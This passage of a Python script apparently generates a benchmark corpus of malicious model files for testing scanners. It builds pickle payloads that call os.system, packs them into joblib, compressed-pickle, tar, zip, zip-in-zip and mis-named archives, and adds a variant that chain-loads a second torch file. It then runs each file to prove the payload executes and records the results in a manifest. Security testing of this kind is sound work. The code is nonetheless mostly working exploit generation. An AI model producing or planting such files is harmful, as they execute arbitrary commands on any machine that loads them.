    shutil.rmtree(d)
    return data


def _joblib_obj():
    import numpy as np
    return {"weights": np.arange(10.0), "model": Reduce(os.system, SH)}


attack("joblib-plain", "joblib file with the payload in its pickle", R3, "joblib.load", ".joblib")(lambda: _joblib(_joblib_obj()))
attack("joblib-object-array", "joblib: the payload inside an object array (the nested pickle joblib writes after the wrapper)", R3, "joblib.load", ".joblib")(
    lambda: _joblib({"a": __import__("numpy").arange(4), "o": _np_payload_array()}))
attack("joblib-protocol0", "joblib under pickle protocol 0 (arrays after copyreg._reconstructor wrappers), payload after an array", R3,
       "joblib.load", ".joblib")(lambda: _joblib([__import__("numpy").arange(5.0), Reduce(os.system, SH)], protocol=0))
for comp in ("zlib", "gzip", "bz2", "lzma", "xz", "lz4"):
    attack("joblib-" + comp, "joblib compressed with %s, payload inside" % comp, R3, "joblib.load", ".joblib")(
        lambda comp=comp: _joblib(_joblib_obj(), compress=(comp, 3)))

raw_evil = pickle.dumps(Reduce(os.system, SH), protocol=4)
simple("pkl-gz", "gzip-wrapped pickle (.pkl.gz)", R3, gzip.compress(raw_evil, mtime=0), "gzip+pickle.load", ".pkl.gz")
simple("pkl-bz2", "bzip2-wrapped pickle", R3, bz2.compress(raw_evil), "bz2+pickle.load", ".pkl.bz2")
simple("pkl-xz", "xz-wrapped pickle", R3, lzma.compress(raw_evil), "lzma+pickle.load", ".pkl.xz")
simple("pkl-lzma-alone", "classic .lzma-wrapped pickle", R3, lzma.compress(raw_evil, format=lzma.FORMAT_ALONE), "lzma+pickle.load", ".pkl.lzma")
simple("pkl-zlib", "zlib-wrapped pickle", R3, zlib.compress(raw_evil), "zlib+pickle.loads", ".pkl.z")
attack("pkl-lz4", "lz4-framed pickle", R3, "lz4+pickle.load", ".pkl.lz4")(lambda: __import__("lz4.frame").frame.compress(raw_evil))


def _tar(members, mode="w:gz"):
    b = io.BytesIO()
    with tarfile.open(fileobj=b, mode=mode, format=tarfile.PAX_FORMAT) as t:
        for name, data in members:
            ti = tarfile.TarInfo(name)
            ti.size, ti.mtime = len(data), 0
            t.addfile(ti, io.BytesIO(data))
    return b.getvalue()


def _zip(members):
    b = io.BytesIO()
    with zipfile.ZipFile(b, "w") as z:
        for name, data in members:
            z.writestr(zipfile.ZipInfo(name, date_time=(1980, 1, 1, 0, 0, 0)), data)
    return b.getvalue()


simple("tar-gz-bundle", "SageMaker-style model.tar.gz with a malicious model.pkl", R3,
       _tar([("code/inference.py", b"print(1)\n"), ("model.pkl", raw_evil)]), "tar+pickle.load", ".tar.gz")
simple("zip-bundle", "plain zip with data.pkl at its root", PS + " malicious1.zip", _zip([("data.pkl", raw_evil)]), "zip+pickle.load", ".zip")
simple("zip-bundle-wrong-ext", "plain zip whose pickle member is named data.txt", PS + " malicious1_wrong_ext", _zip([("data.txt", raw_evil)]), "zip+pickle.load", ".zip")
simple("zip-in-zip", "a zip holding a zip holding the pickle", R3, _zip([("inner.zip", _zip([("model.pkl", raw_evil)]))]), "zip+zip+pickle.load", ".zip")


# -- a payload that loads a second file named in the pickle --
def _second_file(path):
    second = os.path.join(os.path.dirname(path), "second.pt")
    open(second, "wb").write(torch_zip(_evil_state_dict()))
    EXTRA[path] = [second]
    return pickle.dumps(Reduce(__import__("functools").partial(__import__("torch").load, "second.pt")), protocol=4)


attack("partial-torch-load-file", "functools.partial(torch.load, 'second.pt') called: loads another file named in the pickle", PS + " malicious19")(None)
ATTACKS[-1]["build_path"] = _second_file


# ---- driver ------------------------------------------------------------------


def main():
    out = sys.argv[1] if len(sys.argv) > 1 else "/work/bench/attacks"
    if os.path.exists(out):
        if not os.path.exists(os.path.join(out, "manifest.json")) and os.listdir(out):
            sys.exit("%s exists and is not a corpus made by this script" % out)
        shutil.rmtree(out)
    os.makedirs(out)
    listener = Listener()
    files, skipped = [], []
    for a in ATTACKS:
        path = os.path.join(out, a["name"] + a["ext"])
        try:
            if a.get("build_path"):
                data = a["build_path"](path)
            else:
                data = a["build"]()
            with open(path, "wb") as f:
                f.write(data)
        except Exception as e:
            skipped.append({"name": a["name"], "stage": "build", "error": repr(e)[:200]})
            continue
        proofs, rc, tail = run_loader(a["loader"], path, listener)
        if not proofs:
            os.remove(path)
            for f in EXTRA.pop(path, []):
                os.remove(f)
            skipped.append({"name": a["name"], "stage": "prove", "error": "payload did not run (exit %d): %s" % (rc, tail.strip().splitlines()[-1] if tail.strip() else "")})
            print("NOT PROVEN", a["name"], rc, tail.strip().splitlines()[-1:] if tail.strip() else "", file=sys.stderr)
            continue
        for f in [path] + EXTRA.get(path, []):
            files.append({"path": os.path.relpath(f, out), "sha256": hashlib.sha256(open(f, "rb").read()).hexdigest(),
                          "technique": a["technique"] if f == path else "the second file of " + a["name"], "ref": a["ref"],
                          "loader": a["loader"], "executes_on_load": f == path, "proof": proofs if f == path else [],
                          "attack": a["name"]})
        print("ok", a["name"], proofs, file=sys.stderr)
    doc = {"files": files, "skipped": skipped, "marker": MARK, "listener": "127.0.0.1:%d" % PORT}
    with open(os.path.join(out, "manifest.json"), "w") as f:
        json.dump(doc, f, indent=1, sort_keys=True)
        f.write("\n")
    print("%d attack files (%d techniques proven, %d not) -> %s" % (len(files), len({x['attack'] for x in files}), len(skipped), out), file=sys.stderr)


if __name__ == "__main__":
    main()
